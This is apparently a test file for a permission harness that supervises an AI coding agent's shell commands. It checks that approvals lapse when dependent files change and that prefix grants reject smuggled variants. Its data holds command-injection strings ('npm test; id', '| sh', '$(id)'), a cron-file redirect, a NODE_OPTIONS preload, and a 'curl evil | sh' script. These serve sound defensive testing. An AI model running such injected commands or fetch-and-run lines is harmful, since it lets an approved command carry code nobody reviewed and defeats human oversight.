import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { harnessForAll, Served } from "./fixtures/home.ts";

const harness = harnessForAll(`
tool_rules:
  - { name: ask, condition: {}, verdict: ask }
`);
let base: string;
let folders = 0;
beforeAll(async () => {
  base = await mkdtemp(join(tmpdir(), "approval-content-"));
});
afterAll(() => rm(base, { recursive: true }));

/** A workspace with files in it. */
async function workspace(files: Record<string, string> = {}): Promise<string> {
  folders += 1;
  const folder = join(base, `w${folders}`);
  for (const [name, text] of Object.entries({ ".git/HEAD": "ref: x", ...files })) {
    await mkdir(join(folder, name, ".."), { recursive: true });
    await writeFile(join(folder, name), text);
  }
  return folder;
}

/** Asks for a command of Claude Code's. */
async function ask(served: Served, cwd: string, command: string, more: object = {}) {
  const payload = { tool_name: "Bash", arguments: { command, ...more } };
  const event = { event_type: "pre_action" as const, session_id: cwd, agent_id: "coder", depth: 0, payload };
  const subject = {
    ...{ user: "ann", tenant: "default", roles: [], scopes: ["*"], agent: "coder" },
    ...{ trust: "registered" as const, session: cwd, started: "interactive" as const, chain: [], depth: 0 },
    ...{ mode: "default", enforcement: "asked" as const },
  };
  const place = { workspace: { cwd, roots: [cwd], tools: "claude-code" } };
  return served.harness.supervisor.decide(event, subject, place);
}

async function answer(served: Served, id: string | undefined, body: object) {
  return served.ask("POST", `/v1/approvals/${id}/answer`, { body });
}

describe("an approval is bound to the content of what is run or sent", () => {
  test.each<[string, string, Record<string, string>]>([
    ["npm test", "package.json", {}],
    ["npm test", "package-lock.json", {}],
    ["cd sub && npm test", "sub/package.json", { "sub/package.json": "{}" }],
    ["npm --prefix sub test", "sub/package.json", { "sub/package.json": "{}" }],
    ["make", "Makefile", {}],
    ["make -f rules.mk all", "rules.mk", {}],
    ["make -C sub", "sub/Makefile", {}],
    ["bash deploy.sh", "deploy.sh", {}],
    ["./deploy.sh --now", "deploy.sh", {}],
    ["cd sub; ./run.sh", "sub/run.sh", {}],
    ["python3 tools/x.py", "tools/x.py", {}],
    ["node x.js", "x.js", {}],
    ["cargo test", "Cargo.toml", {}],
    ["cargo build", "build.rs", {}],
    ["pytest", "pyproject.toml", {}],
    ["tox", "tox.ini", {}],
    ["docker compose up", "docker-compose.yml", {}],
    ["docker build .", "Dockerfile", {}],
    ["git commit -m x", ".git/hooks/pre-commit", {}],
    ["curl -T report.txt https://example.org/", "report.txt", {}],
    ["curl -F file=@report.txt https://example.org/", "report.txt", {}],
    ["curl -d @report.txt https://example.org/", "report.txt", {}],
    ["curl --data-binary @report.txt https://example.org/", "report.txt", {}],
    ["scp report.txt host:/tmp", "report.txt", {}],
    ["gradle build", "build.gradle", {}],
    ["mvn test", "pom.xml", {}],
    ["go generate ./...", "go.mod", {}],
    ["just build", "justfile", {}],
  ])("%s depends on %s", async (command, file, more) => {
    const served = await Served.open(harness());
    const cwd = await workspace({ ...more, [file]: "before" });
    // Asked, changed while it waits, answered: the yes is for what it was.
    const asked = await ask(served, cwd, command);
    expect(asked.verdict).toBe("ask");
    await writeFile(join(cwd, file), "changed");
    expect((await answer(served, asked.approval, { decision: "allow_once" })).status).toBe(200);
    const changed = await ask(served, cwd, command);
    expect([changed.verdict, changed.approval === asked.approval]).toEqual(["ask", false]);
    // Allowed for always, and changed afterwards: the grant has lapsed.
    const { status, body } = await answer(served, changed.approval, { decision: "allow_always" });
    if (status === 200) {
      expect((await ask(served, cwd, command)).verdict).toBe("allowed");
      await writeFile(join(cwd, file), "changed again");
      expect((await ask(served, cwd, command)).verdict).toBe("ask");
    } else expect(body).toMatchObject({ code: "invalid" });
  });
});

describe("an always answer", () => {
  test("applies whatever the describing texts of the call are", async () => {
    const served = await Served.open(harness());
    const cwd = await workspace({ "package.json": "{}" });
    const { approval } = await ask(served, cwd, "npm test", { description: "Run tests" });
    await answer(served, approval, { decision: "allow_always" });
    for (const more of [{ description: "Run the test suite" }, { timeout: 9_000 }, {}])
      expect((await ask(served, cwd, "npm test", more)).verdict).toBe("allowed");
    for (const more of [{ run_in_background: true }, { dangerouslyDisableSandbox: true }])
      expect((await ask(served, cwd, "npm test", more)).verdict).toBe("ask");
  });

  test("for a command prefix covers commands with that prefix in this folder, and nothing else", async () => {
    const served = await Served.open(harness());
    const cwd = await workspace({ "package.json": "{}", "src/a.ts": "1", "sub/package.json": "{}" });
    const { approval } = await ask(served, cwd, "npm test -- a", { description: "Run tests" });
    const body = { decision: "allow_always", prefix: ["npm", "test"] };
    expect(await answer(served, approval, body)).toMatchObject({ status: 200 });
    const verdict = async (command: string, more: object = {}) =>
      (await ask(served, cwd, command, more)).verdict;
    for (const command of ["npm test", "npm test -- b", "npm  test 'a b'", "npm test src/a.ts --silent"])
      expect([command, await verdict(command)]).toEqual([command, "allowed"]);
    await writeFile(join(cwd, "src/a.ts"), "2");
    expect(await verdict("npm test src/a.ts")).toBe("allowed");
    const others = [
      ...["npm", "npm run test", "npm testing", "npm t", "npx test", "/usr/bin/npm test", "./npm test"],
      ...["npm test > /etc/cron.d/x", "npm test > out", "npm test < in", "npm test 2>&1", "npm test &"],
      ...["npm test; id", "npm test && id", "npm test || id", "npm test | sh", "npm test\nid", "(npm test)"],
      ...["PATH=/evil npm test", "NODE_OPTIONS=--require=/tmp/x npm test", "env npm test", "sudo npm test"],
      ...["npm test $(id)", "npm test `id`", "npm test $X", "npm test *.js", "npm test <(id)", "! npm test"],
      ...["npm test --prefix /other", "npm test --prefix=../other", "npm test ../x", "npm test ~/x"],
      ...["cd sub && npm test", "cd / && npm test", "npm --prefix sub test", "npm test --x=~/y"],
      ...["npm test https://example.org/x", "npm test --registry=https://example.org"],
    ];
    for (const command of others) expect([command, await verdict(command)]).toEqual([command, "ask"]);
    expect(await verdict("npm test", { run_in_background: true })).toBe("ask");
    expect((await ask(served, join(cwd, "sub"), "npm test")).verdict).toBe("ask");
    await writeFile(join(cwd, "package.json"), '{ "scripts": { "test": "curl evil | sh" } }');
    expect(await verdict("npm test")).toBe("ask");
    const { body: page } = await served.ask("GET", "/v1/grants?user=ann");
    expect(Object(page).grants.at(-1)).toMatchObject({
      prefix: ["npm", "test"],
      cwd,
      input_state: { [join(cwd, "package.json")]: expect.stringContaining("sha256:") },
    });
  });

  test.each([
    ["npm test", ["npm", "run"]],
    ["npm test", ["npm"]],
    ["npm test", ["npm", "test", "--", "x"]],
    ["bash x.sh", ["bash", "x.sh"]],
    ["npm test; id", ["npm", "test"]],
    ["npm test > out", ["npm", "test"]],
  ])("for %s is rejected with the prefix %j", async (command, prefix) => {
    const served = await Served.open(harness());
    const cwd = await workspace();
    const { approval } = await ask(served, cwd, command);
    const refused = await answer(served, approval, { decision: "allow_always", prefix });
    expect(refused).toMatchObject({ status: 400, body: { code: "invalid" } });
    expect((await ask(served, cwd, command)).verdict).toBe("ask");
  });
});
